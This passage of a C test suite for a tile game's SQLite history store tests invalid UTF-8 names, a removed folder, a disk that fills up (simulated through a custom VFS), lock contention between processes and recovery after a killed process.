  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players WHERE hex (name) = 'EFBFBD6E6E61'"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE hex (name) LIKE '%EDA080%'"), ==, 0);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM game_players WHERE hex (name) = 'EFBFBD6E6E61'"), >, 0);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE hex (played) LIKE '%EDA080%'"), ==, 0);
  players = tessera_store_list_player_stats (store, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < players->len; i++)
    g_assert_true (g_utf8_validate (((TesseraPlayerStats *) g_ptr_array_index (players, i))->name, -1, NULL));
  stats = tessera_store_get_player_stats (store, mended, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (stats->name, ==, mended);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  loaded = tessera_store_load_record (store, 1, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (loaded->played->place, ==, "\xef\xbf\xbdKlub");
  data_text = tessera_record_to_data (loaded);
  g_assert_true (g_utf8_validate (data_text, -1, NULL));
  g_clear_object (&store);
  /* Mended once: opened again, nothing is left to mend. */
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
}

/* Read-only, the same names are shown mended, and the file is left as it is. */
static void
test_invalid_utf8_shown_read_only (Fixture       *fixture,
                                   gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GPtrArray) players = NULL;
  g_autoptr(TesseraRecord) loaded = NULL;
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;
  g_autofree char *csv = NULL;
  gboolean found = FALSE;

  make_history_with_invalid_name (fixture->path);
  g_assert_cmpint (g_chmod (fixture->path, 0444), ==, 0);
  before = read_file (fixture->path);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_is_read_only (store));
  players = tessera_store_list_player_stats (store, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < players->len; i++)
    {
      const char *name = ((TesseraPlayerStats *) g_ptr_array_index (players, i))->name;

      g_assert_true (g_utf8_validate (name, -1, NULL));
      found |= g_str_equal (name, "\xef\xbf\xbdnna");
    }
  g_assert_true (found);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < games->len; i++)
    {
      const TesseraGameSummary *game = g_ptr_array_index (games, i);

      for (guint k = 0; k < game->seats->len; k++)
        g_assert_true (g_utf8_validate (g_array_index (game->seats, TesseraGameSeat, k).name, -1, NULL));
    }
  loaded = tessera_store_load_record (store, 1, &error);
  g_assert_no_error (error);
  csv = tessera_store_export_csv (store, &error);
  g_assert_no_error (error);
  g_assert_true (g_utf8_validate (csv, -1, NULL));
  g_assert_nonnull (strstr (csv, ",\xef\xbf\xbdnna,"));
  g_clear_object (&store);

  after = read_file (fixture->path);
  g_assert_true (g_bytes_equal (before, after));
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM players WHERE hex (name) = 'EDA0806E6E61'"), ==, 1);
  g_chmod (fixture->path, 0644);
}

/* The history's folder renamed or removed while it is open (a stick pulled out, a folder
 * tidied away): a write would go to a file nobody can find again, so it is refused with the
 * reason, the file as it was; back in its place, writing goes on. */
static void
test_folder_gone (Fixture       *fixture,
                  gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *folder = g_build_filename (fixture->folder, "games", NULL);
  g_autofree char *moved = g_build_filename (fixture->folder, "games-moved", NULL);
  g_autofree char *path = g_build_filename (folder, "history.db", NULL);
  g_autofree char *moved_path = g_build_filename (moved, "history.db", NULL);
  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (31, 2);
  g_autoptr(TesseraRecord) other = tessera_random_game (32, 2);
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;
  g_autofree char *expected = NULL;
  gboolean already;

  g_assert_no_error (error);
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
  g_assert_no_error (error);
  g_assert_cmpint (g_rename (folder, moved), ==, 0);
  before = read_file (moved_path);

  expected = g_strdup_printf ("the history %s is no longer there (its folder was moved, renamed or removed); "
                              "nothing was saved. Put it back to save again.", path);
  g_assert_cmpint (tessera_store_import_record (store, other, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_GONE);
  g_assert_cmpstr (error->message, ==, expected);
  g_clear_error (&error);
  after = read_file (moved_path);
  g_assert_true (g_bytes_equal (before, after));
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));

  g_assert_cmpint (g_rename (moved, folder), ==, 0);
  g_assert_cmpint (tessera_store_import_record (store, other, &already, &error), >, 0);
  g_assert_no_error (error);
}

/* A full disk ---------------------------------------------------------------------------- */

/* A VFS over SQLite's own that says the disk is full once a budget of bytes is written: a
 * small file system of its own, without mounting one (tests may not) or preloading a library
 * (the sanitizers forbid it). Every other call goes to the real file. */
typedef struct
{
  sqlite3_file  base;
  sqlite3_file *real;
} FullFile;

static sqlite3_vfs *real_vfs;
static sqlite3_vfs full_vfs;
static gint64 full_budget = -1;   /* bytes that may still be written; -1 for no end */

#define REAL(file) (((FullFile *) (file))->real)

static int
full_close (sqlite3_file *file)
{
  int result = REAL (file)->pMethods->xClose (REAL (file));

  sqlite3_free (REAL (file));
  return result;
}
static int full_read (sqlite3_file *file, void *data, int amount, sqlite3_int64 offset)
{ return REAL (file)->pMethods->xRead (REAL (file), data, amount, offset); }
static int
full_write (sqlite3_file *file, const void *data, int amount, sqlite3_int64 offset)
{
  if (full_budget >= 0)
    {
      if (amount > full_budget)
        return SQLITE_FULL;
      full_budget -= amount;
    }
  return REAL (file)->pMethods->xWrite (REAL (file), data, amount, offset);
}
static int full_truncate (sqlite3_file *file, sqlite3_int64 size)
{ return REAL (file)->pMethods->xTruncate (REAL (file), size); }
static int full_sync (sqlite3_file *file, int flags)
{ return REAL (file)->pMethods->xSync (REAL (file), flags); }
static int full_file_size (sqlite3_file *file, sqlite3_int64 *size)
{ return REAL (file)->pMethods->xFileSize (REAL (file), size); }
static int full_lock (sqlite3_file *file, int lock)
{ return REAL (file)->pMethods->xLock (REAL (file), lock); }
static int full_unlock (sqlite3_file *file, int lock)
{ return REAL (file)->pMethods->xUnlock (REAL (file), lock); }
static int full_check_reserved_lock (sqlite3_file *file, int *out)
{ return REAL (file)->pMethods->xCheckReservedLock (REAL (file), out); }
static int full_file_control (sqlite3_file *file, int op, void *arg)
{ return REAL (file)->pMethods->xFileControl (REAL (file), op, arg); }
static int full_sector_size (sqlite3_file *file)
{ return REAL (file)->pMethods->xSectorSize (REAL (file)); }
static int full_device_characteristics (sqlite3_file *file)
{ return REAL (file)->pMethods->xDeviceCharacteristics (REAL (file)); }
static int full_shm_map (sqlite3_file *file, int page, int size, int extend, void volatile **out)
{ return REAL (file)->pMethods->xShmMap (REAL (file), page, size, extend, out); }
static int full_shm_lock (sqlite3_file *file, int offset, int n, int flags)
{ return REAL (file)->pMethods->xShmLock (REAL (file), offset, n, flags); }
static void full_shm_barrier (sqlite3_file *file)
{ REAL (file)->pMethods->xShmBarrier (REAL (file)); }
static int full_shm_unmap (sqlite3_file *file, int delete_flag)
{ return REAL (file)->pMethods->xShmUnmap (REAL (file), delete_flag); }

static const sqlite3_io_methods full_methods = {
  .iVersion = 2,
  .xClose = full_close, .xRead = full_read, .xWrite = full_write, .xTruncate = full_truncate,
  .xSync = full_sync, .xFileSize = full_file_size, .xLock = full_lock, .xUnlock = full_unlock,
  .xCheckReservedLock = full_check_reserved_lock, .xFileControl = full_file_control,
  .xSectorSize = full_sector_size, .xDeviceCharacteristics = full_device_characteristics,
  .xShmMap = full_shm_map, .xShmLock = full_shm_lock, .xShmBarrier = full_shm_barrier,
  .xShmUnmap = full_shm_unmap,
};

static int
full_open (sqlite3_vfs *vfs, sqlite3_filename name, sqlite3_file *file, int flags, int *out_flags)
{
  FullFile *full = (FullFile *) file;
  int result;

  full->real = sqlite3_malloc (real_vfs->szOsFile);
  memset (full->real, 0, (size_t) real_vfs->szOsFile);
  result = real_vfs->xOpen (real_vfs, name, full->real, flags, out_flags);
  if (result != SQLITE_OK || full->real->pMethods == NULL)
    {
      sqlite3_free (full->real);
      full->base.pMethods = NULL;
      return result;
    }
  full->base.pMethods = &full_methods;
  return SQLITE_OK;
}

static int full_delete (sqlite3_vfs *vfs, const char *name, int sync_dir)
{ return real_vfs->xDelete (real_vfs, name, sync_dir); }
static int full_access (sqlite3_vfs *vfs, const char *name, int flags, int *out)
{ return real_vfs->xAccess (real_vfs, name, flags, out); }
static int full_full_pathname (sqlite3_vfs *vfs, const char *name, int n, char *out)
{ return real_vfs->xFullPathname (real_vfs, name, n, out); }
static int full_randomness (sqlite3_vfs *vfs, int n, char *out)
{ return real_vfs->xRandomness (real_vfs, n, out); }
static int full_sleep (sqlite3_vfs *vfs, int microseconds)
{ return real_vfs->xSleep (real_vfs, microseconds); }
static int full_current_time (sqlite3_vfs *vfs, double *out)
{ return real_vfs->xCurrentTime (real_vfs, out); }
static int full_get_last_error (sqlite3_vfs *vfs, int n, char *out)
{ return real_vfs->xGetLastError (real_vfs, n, out); }
static int full_current_time_int64 (sqlite3_vfs *vfs, sqlite3_int64 *out)
{ return real_vfs->xCurrentTimeInt64 (real_vfs, out); }

/* Makes the full-disk VFS the one every history opens with. */
static void
use_full_vfs (void)
{
  if (real_vfs != NULL)
    return;
  real_vfs = sqlite3_vfs_find (NULL);
  full_vfs = (sqlite3_vfs) {
    .iVersion = 2, .szOsFile = sizeof (FullFile), .mxPathname = real_vfs->mxPathname, .zName = "tessera-full",
    .xOpen = full_open, .xDelete = full_delete, .xAccess = full_access, .xFullPathname = full_full_pathname,
    .xRandomness = full_randomness, .xSleep = full_sleep, .xCurrentTime = full_current_time,
    .xGetLastError = full_get_last_error, .xCurrentTimeInt64 = full_current_time_int64,
  };
  g_assert_cmpint (sqlite3_vfs_register (&full_vfs, 1), ==, SQLITE_OK);
}

/* The disk fills up while a game is imported: refused with what to do, the history as it was
 * (the games stored before are all there, the database whole); with room again, it goes on. */
static void
test_disk_full (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(TesseraRecord) first = tessera_random_game (41, 2);
  g_autoptr(TesseraRecord) second = tessera_random_game (42, 4);
  g_autoptr(GPtrArray) games = NULL;
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;
  g_autofree char *expected = NULL;
  gboolean already;

  use_full_vfs ();
  full_budget = -1;
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_cmpint (tessera_store_import_record (store, first, &already, &error), >, 0);
  g_assert_no_error (error);
  before = read_file (fixture->path);

  /* Room for a few pages, not for a game of a hundred events. */
  full_budget = 8192;
  g_assert_cmpint (tessera_store_import_record (store, second, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FULL);
  expected = g_strdup_printf ("the disk that holds the history %s is full; nothing was saved. Free some space on it, "
                              "then try again.", fixture->path);
  g_assert_cmpstr (error->message, ==, expected);
  g_clear_error (&error);
  after = read_file (fixture->path);
  g_assert_true (g_bytes_equal (before, after));
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 1);

  /* Room again: the same game goes in, whole. */
  full_budget = -1;
  g_assert_cmpint (tessera_store_import_record (store, second, &already, &error), >, 0);
  g_assert_no_error (error);
  g_assert_false (already);
  g_clear_object (&store);
  g_assert_cmpint (query_int (fixture->path, "SELECT count (*) FROM games"), ==, 2);
  g_assert_cmpint (query_int (fixture->path, "SELECT count (*) FROM events"), ==,
                   (gint64) (first->events->len + second->events->len));
}

/* The disk fills up in the middle of a batch: what the batch says is stored is there whole,
 * nothing of the record it stopped at or after it, no half game; with room again, the same
 * batch stores the rest and recognises the rest. */
static void
test_import_batch_interrupted (Fixture       *fixture,
                               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = NULL;
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) tessera_record_free);
  g_autofree TesseraImportResult *results = NULL;
  gint64 n_events = 0;
  guint n_stored = 0;

  use_full_vfs ();
  full_budget = -1;
  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < 120; i++)
    g_ptr_array_add (records, tessera_random_game (70 + i, 2 + i % 4));
  results = g_new0 (TesseraImportResult, records->len);

  /* Room for some records, not for all (all of them write 1.5 MB). */
  full_budget = 1024 * 1024;
  g_assert_false (tessera_store_import_records (store, (const TesseraRecord * const *) records->pdata, records->len,
                                                results, NULL, &error));
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_FULL);
  g_clear_error (&error);
  full_budget = -1;
  while (n_stored < records->len && results[n_stored].game_id > 0)
    {
      const TesseraRecord *record = g_ptr_array_index (records, n_stored);

      g_assert_no_error (results[n_stored].error);
      n_events += record->events->len;
      n_stored++;
    }
  g_test_message ("%u of %u records stored before the disk was full", n_stored, records->len);
  g_assert_cmpuint (n_stored, >, 0);
  g_assert_cmpuint (n_stored, <, records->len);
  for (guint i = n_stored; i < records->len; i++)
    {
      g_assert_cmpint (results[i].game_id, ==, 0);
      g_assert_null (results[i].error);
    }
  g_clear_object (&store);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, n_stored);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM events"), ==, n_events);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games WHERE imported IS NULL "
                                             "OR id NOT IN (SELECT game FROM game_players)"), ==, 0);

  store = tessera_store_open (fixture->path, &error);
  g_assert_no_error (error);
  g_assert_true (tessera_store_import_records (store, (const TesseraRecord * const *) records->pdata, records->len,
                                               results, NULL, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < records->len; i++)
    g_assert_true (results[i].already == (i < n_stored));
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM games"), ==, records->len);
}

/* Two programs at once ------------------------------------------------------------------- */

/* The child of test_busy: holds a write transaction on the history at @path for @ms
 * milliseconds, as another program's long import would, and says when it has it. */
static int
hold_child (const char *path,
            guint       ms)
{
  sqlite3 *db = NULL;

  if (sqlite3_open (path, &db) != SQLITE_OK || sqlite3_exec (db, "BEGIN IMMEDIATE", NULL, NULL, NULL) != SQLITE_OK)
    return 1;
  printf ("holding\n");
  fflush (stdout);
  g_usleep ((gulong) ms * 1000);
  if (sqlite3_exec (db, "COMMIT", NULL, NULL, NULL) != SQLITE_OK)
    return 1;
  sqlite3_close (db);
  return 0;
}

static GSubprocess *
start_holder (const char *path,
              guint       ms)
{
  g_autofree char *self_path = g_file_read_link ("/proc/self/exe", NULL);
  g_autofree char *ms_text = g_strdup_printf ("%u", ms);
  g_autoptr(GError) error = NULL;
  GSubprocess *child = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_PIPE, &error,
                                         self_path, "--hold-child", path, ms_text, NULL);
  g_autoptr(GDataInputStream) lines = NULL;
  g_autofree char *line = NULL;

  g_assert_no_error (error);
  lines = g_data_input_stream_new (g_subprocess_get_stdout_pipe (child));
  line = g_data_input_stream_read_line (lines, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (line, ==, "holding");
  return child;
}

/* Another program writing to the history: a write waits its turn, and when the wait runs out
 * it says who is in the way and what to do, and nothing was written. */
static void
test_busy (Fixture       *fixture,
           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (11, 3);
  g_autoptr(GSubprocess) holder = NULL;
  g_autoptr(GPtrArray) games = NULL;
  g_autofree char *expected = NULL;
  gboolean already;
  gint64 start;

  g_assert_no_error (error);

  /* A wait shorter than the other's transaction: refused, with the reason. */
  holder = start_holder (fixture->path, 1500);
  tessera_store_set_busy_timeout (store, 300);
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), ==, 0);
  g_assert_error (error, TESSERA_STORE_ERROR, TESSERA_STORE_ERROR_BUSY);
  expected = g_strdup_printf ("another program is using the history %s and kept it busy for 1 second; wait until it "
                              "has finished (another Tessera, or tessera-cli importing games), then try again",
                              fixture->path);
  g_assert_cmpstr (error->message, ==, expected);
  g_clear_error (&error);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, 0);

  /* A wait long enough: the write goes in once the other's is done. */
  tessera_store_set_busy_timeout (store, 20000);
  start = g_get_monotonic_time ();
  g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
  g_assert_no_error (error);
  g_assert_false (already);
  g_assert_cmpint (g_get_monotonic_time () - start, <, 15 * G_USEC_PER_SEC);
  g_subprocess_wait_check (holder, NULL, &error);
  g_assert_no_error (error);
  g_clear_pointer (&games, g_ptr_array_unref);
  games = tessera_store_list_games (store, &error);
  g_assert_cmpuint (games->len, ==, 1);
}

/* Several programs opening a history that is not there yet, all at the same moment: each of
 * them opens it, none says it is busy or someone else's. */
#define OPEN_AT_ONCE_THREADS 4
#define OPEN_AT_ONCE_ROUNDS 40

typedef struct
{
  const char *path;
  gint       *n_ready;
  GError     *error;
} OpenAtOnce;

static gpointer
open_at_once (gpointer data)
{
  OpenAtOnce *opener = data;
  g_autoptr(TesseraStore) store = NULL;

  /* Each starts when all are there, so the opens really meet. */
  g_atomic_int_inc (opener->n_ready);
  while (g_atomic_int_get (opener->n_ready) < OPEN_AT_ONCE_THREADS)
    g_thread_yield ();
  store = tessera_store_open (opener->path, &opener->error);
  return NULL;
}

static void
test_first_open_at_once (Fixture       *fixture,
                         gconstpointer  data)
{
  static const char * const history_files[] = { "", "-wal", "-shm" };

  for (guint round = 0; round < OPEN_AT_ONCE_ROUNDS; round++)
    {
      g_autofree char *path = g_strdup_printf ("%s-%u", fixture->path, round);
      OpenAtOnce openers[OPEN_AT_ONCE_THREADS] = { { 0 } };
      GThread *threads[OPEN_AT_ONCE_THREADS];
      gint n_ready = 0;

      for (guint i = 0; i < OPEN_AT_ONCE_THREADS; i++)
        {
          openers[i].path = path;
          openers[i].n_ready = &n_ready;
          threads[i] = g_thread_new ("open", open_at_once, &openers[i]);
        }
      for (guint i = 0; i < OPEN_AT_ONCE_THREADS; i++)
        {
          g_thread_join (threads[i]);
          g_assert_no_error (openers[i].error);
        }
      g_assert_cmpint (query_int (path, "PRAGMA user_version"), ==, TESSERA_STORE_SCHEMA_VERSION);
      for (guint i = 0; i < G_N_ELEMENTS (history_files); i++)
        {
          g_autofree char *file = g_strconcat (path, history_files[i], NULL);

          g_unlink (file);
        }
    }
}

#define IMPORT_CHILD_GAMES 600

/* The child of test_turns: imports IMPORT_CHILD_GAMES records one transaction after the other
 * with nothing between them, as a long import does, or all in one batch with @batch, and says
 * when it begins. */
static int
import_child (const char *path,
              gboolean    batch)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func ((GDestroyNotify) tessera_record_free);
  gboolean already;

  if (store == NULL)
    return 1;
  for (guint i = 0; i < IMPORT_CHILD_GAMES; i++)
    g_ptr_array_add (records, tessera_random_game (3000 + i, 2));
  printf ("importing\n");
  fflush (stdout);
  if (batch)
    {
      g_autofree TesseraImportResult *results = g_new0 (TesseraImportResult, records->len);

      return tessera_store_import_records (store, (const TesseraRecord * const *) records->pdata, records->len,
                                           results, NULL, &error) ? 0 : 1;
    }
  for (guint i = 0; i < records->len; i++)
    if (tessera_store_import_record (store, g_ptr_array_index (records, i), &already, &error) <= 0)
      return 1;
  return 0;
}

/* The app saving moves while tessera-cli imports: each move waits its turn, a short one, and
 * neither loses a game. SQLite's own wait (ever longer sleeps) found no gap between two of the
 * import's transactions and gave up after its timeout. With @data, the import is one batch:
 * it commits when a move waits. */
static void
test_turns (Fixture       *fixture,
            gconstpointer  data)
{
  g_autofree char *self_path = g_file_read_link ("/proc/self/exe", NULL);
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (fixture->path, &error);
  g_autoptr(GSubprocess) child = NULL;
  g_autoptr(GDataInputStream) lines = NULL;
  g_autofree char *line = NULL;
  g_autoptr(GPtrArray) games = NULL;
  gint64 worst = 0;
  guint n_mine = 0;

  g_assert_no_error (error);
  child = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_PIPE, &error, self_path, "--import-child", fixture->path,
                            data != NULL ? "batch" : "alone", NULL);
  g_assert_no_error (error);
  lines = g_data_input_stream_new (g_subprocess_get_stdout_pipe (child));
  line = g_data_input_stream_read_line (lines, NULL, NULL, &error);
  g_assert_cmpstr (line, ==, "importing");

  tessera_store_set_busy_timeout (store, 5000);
  for (guint i = 0; i < 15; i++)
    {
      g_autoptr(TesseraRecord) record = tessera_random_game (4000 + i, 3);
      gint64 start = g_get_monotonic_time ();
      gboolean already;

      g_assert_cmpint (tessera_store_import_record (store, record, &already, &error), >, 0);
      g_assert_no_error (error);
      worst = MAX (worst, g_get_monotonic_time () - start);
      n_mine++;
      g_usleep (20000);
    }
  g_subprocess_wait_check (child, NULL, &error);
  g_assert_no_error (error);
  g_test_message ("%u writes during the import, the longest took %.1f ms", n_mine, worst / 1000.0);
  g_assert_cmpuint (n_mine, >=, 5);
  g_assert_cmpint (worst, <, 400 * 1000);
  games = tessera_store_list_games (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (games->len, ==, IMPORT_CHILD_GAMES + n_mine);
  /* Nobody waits any more: no mark is left beside the history. */
  {
    g_autofree char *mark = g_strconcat (fixture->path, "-wait", NULL);

    g_assert_false (g_file_test (mark, G_FILE_TEST_EXISTS));
  }
}

/* Crash safety ------------------------------------------------------------------------- */

#define CRASH_RUNS 100

/* The child of test_crash_safety: plays the random game of @seed into the history at @path,
 * event by event as the app does, and prints each event's number once its commit returned. */
static int
crash_child (const char *path,
             guint32     seed)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(TesseraStore) store = tessera_store_open (path, &error);
  g_autoptr(TesseraRecord) record = tessera_random_game (seed, 2 + seed % 4);
  g_autoptr(TesseraGame) game = tessera_game_new (record, &error);
  gint64 game_id;

  if (store == NULL || game == NULL)
    return 1;
  game_id = tessera_store_add_game (store, record, &error);
  if (game_id == 0)
    return 1;
  printf ("game %" G_GINT64_FORMAT "\n", game_id);
  fflush (stdout);
  for (guint i = 0; i < record->events->len; i++)
    {
      if (!tessera_game_apply (game, g_ptr_array_index (record->events, i), &error) ||
          !tessera_store_save_event (store, game_id, game, &error))
        return 1;
      printf ("%u\n", i + 1);
      fflush (stdout);
    }
  return 0;
}

/* A process entering a game is killed (SIGKILL) at a random point, a hundred times over one
 * history: every event whose commit returned is there afterwards, the game replays to a valid
 * state, and the database passes SQLite's integrity check. */
static void
test_crash_safety (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autofree char *self_path = g_file_read_link ("/proc/self/exe", NULL);
  g_autoptr(GRand) rand = g_rand_new_with_seed (2026);
  guint n_killed = 0;
  guint n_stored = 0;

  if (self_path == NULL)
    {
      g_test_skip ("no /proc/self/exe to start the child from");
      return;
    }
  for (guint run = 0; run < CRASH_RUNS; run++)
    {
      guint32 seed = 1000 + run;
      g_autofree char *seed_text = g_strdup_printf ("%u", seed);
      g_autoptr(GError) error = NULL;
      g_autoptr(GSubprocess) child = g_subprocess_new (G_SUBPROCESS_FLAGS_STDOUT_PIPE, &error,
                                                       self_path, "--crash-child", fixture->path, seed_text, NULL);
      g_autoptr(GDataInputStream) lines = NULL;
      g_autoptr(TesseraRecord) record = tessera_random_game (seed, 2 + seed % 4);
      g_autoptr(TesseraStore) store = NULL;
      g_autoptr(TesseraRecord) stored = NULL;
      g_autoptr(TesseraGame) replayed = NULL;
      guint kill_after = (guint) g_rand_int_range (rand, 0, (gint32) record->events->len + 8);
      guint committed = 0;
      gint64 game_id = 0;
      char *line;

      g_assert_no_error (error);
      lines = g_data_input_stream_new (g_subprocess_get_stdout_pipe (child));
      while ((line = g_data_input_stream_read_line (lines, NULL, NULL, &error)) != NULL)
        {
          if (g_str_has_prefix (line, "game "))
            game_id = g_ascii_strtoll (line + 5, NULL, 10);
          else
            committed = (guint) g_ascii_strtoull (line, NULL, 10);
          g_free (line);
          if (game_id != 0 && committed >= kill_after)
            {
              /* Now, or a moment later: in the middle of the next commit, perhaps. */
              g_usleep ((gulong) g_rand_int_range (rand, 0, 3000));
              g_subprocess_send_signal (child, SIGKILL);
              n_killed++;
              break;
            }
        }
      g_subprocess_wait (child, NULL, &error);
      g_assert_no_error (error);
      /* The last number read may not be the last commit: the child may have gone on. */
      while ((line = g_data_input_stream_read_line (lines, NULL, NULL, NULL)) != NULL)
        {
          if (!g_str_has_prefix (line, "game "))
            committed = MAX (committed, (guint) g_ascii_strtoull (line, NULL, 10));
          g_free (line);
        }
      if (game_id == 0)
        continue;   /* killed before the game was stored: nothing was promised */

      store = tessera_store_open (fixture->path, &error);
      g_assert_no_error (error);
      stored = tessera_store_load_record (store, game_id, &error);
      g_assert_no_error (error);
      /* Every reported commit is there, and at most the one being made when it died besides. */
      g_assert_cmpuint (stored->events->len, >=, committed);
      g_assert_cmpuint (stored->events->len, <=, MIN (committed + 1, record->events->len));
      for (guint i = 0; i < stored->events->len; i++)
        g_assert_true (tessera_event_equal (g_ptr_array_index (stored->events, i), g_ptr_array_index (record->events, i)));
      replayed = tessera_game_new_from_record (stored, G_MAXUINT, &error);
      g_assert_no_error (error);
      g_assert_nonnull (replayed);
      n_stored += stored->events->len;
    }
  g_test_message ("%u of %u children killed; %u events found stored", n_killed, CRASH_RUNS, n_stored);
  g_assert_cmpuint (n_killed, >=, CRASH_RUNS / 2);
  g_assert_cmpint (query_int (fixture->path, "SELECT integrity_check = 'ok' FROM pragma_integrity_check"), ==, 1);
  g_assert_cmpint (query_int (fixture->path, "SELECT count(*) FROM pragma_foreign_key_check"), ==, 0);
}

int
main (int   argc,
      char *argv[])
{
  static const struct {
    const char *path;
    void      (*test) (Fixture *, gconstpointer);
  } cases[] = {
    { "/store/new-history", test_new_history },
    { "/store/reopen", test_reopen },
    { "/store/schema-constraints", test_schema_constraints },
    { "/store/empty-file", test_empty_file },
    { "/store/refuses-text", test_refuses_text },
    { "/store/refuses-foreign-database", test_refuses_foreign_database },
    { "/store/refuses-damaged", test_refuses_damaged },
    { "/store/damaged-not-written", test_damaged_not_written },
    { "/store/damaged-seen-reading", test_damaged_seen_reading },
    { "/store/stored-event-named", test_stored_event_named },
    { "/store/refuses-deep-json", test_refuses_deep_json },
    { "/store/refuses-newer", test_refuses_newer },
    { "/store/refuses-folder", test_refuses_folder },
    { "/store/game-round-trip", test_game_round_trip },
    { "/store/same-player-any-case", test_same_player_any_case },
    { "/store/hostile-names", test_hostile_names },
    { "/store/export-csv-formulas", test_export_csv_formulas },
    { "/store/event-order", test_event_order },
    { "/store/import-once", test_import_once },
    { "/store/played-game-recognised", test_played_game_recognised },
    { "/store/import-refuses-illegal", test_import_refuses_illegal },
    { "/store/import-batch", test_import_batch },
    { "/store/import-batch-as-one-by-one", test_import_batch_as_one_by_one },
    { "/store/import-batch-read-only", test_import_batch_read_only },
    { "/store/undo", test_undo },
    { "/store/box", test_box },
    { "/store/players-and-games-managed", test_players_and_games_managed },
    { "/store/played", test_played },
    { "/store/correct-earlier-turn", test_correct_earlier_turn },
    { "/store/import-fixtures", test_import_fixtures },
    { "/store/abandon", test_abandon },
    { "/store/list-games", test_list_games },
    { "/store/recent-games", test_recent_games },
    { "/store/purist", test_purist },
    { "/store/statistics", test_statistics },
    { "/store/review-round-trip", test_review_round_trip },
    { "/store/review-dropped", test_review_dropped },
    { "/store/review-unreadable", test_review_unreadable },
    { "/store/review-statistics", test_review_statistics },
    { "/store/earlier-schemas", test_earlier_schemas },
    { "/store/last-tile-games-finished", test_last_tile_games_finished },
    { "/store/crash-safety", test_crash_safety },
    { "/store/busy", test_busy },
    { "/store/first-open-at-once", test_first_open_at_once },
    { "/store/read-only", test_read_only },
    { "/store/read-only-leaves-nothing", test_read_only_leaves_nothing },
    { "/store/read-only-leftovers-mended", test_read_only_leftovers_mended },
    { "/store/read-only-folder", test_read_only_folder },
    { "/store/invalid-utf8-mended", test_invalid_utf8_mended },
    { "/store/invalid-utf8-shown-read-only", test_invalid_utf8_shown_read_only },
    { "/store/folder-gone", test_folder_gone },
    { "/store/disk-full", test_disk_full },
    { "/store/import-batch-interrupted", test_import_batch_interrupted },
    { "/store/turns", test_turns },
  };

  if (argc == 4 && g_str_equal (argv[1], "--import-child"))
    return import_child (argv[2], g_str_equal (argv[3], "batch"));
  if (argc == 4 && g_str_equal (argv[1], "--hold-child"))
    return hold_child (argv[2], (guint) g_ascii_strtoull (argv[3], NULL, 10));
  if (argc == 4 && g_str_equal (argv[1], "--crash-child"))
    return crash_child (argv[2], (guint32) g_ascii_strtoull (argv[3], NULL, 10));

  g_test_init (&argc, &argv, NULL);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    g_test_add (cases[i].path, Fixture, NULL, fixture_set_up, cases[i].test, fixture_tear_down);
  g_test_add ("/store/turns-batch", Fixture, "batch", fixture_set_up, test_turns, fixture_tear_down);
  g_test_add_func ("/store/default-path", test_default_path);
  return g_test_run ();
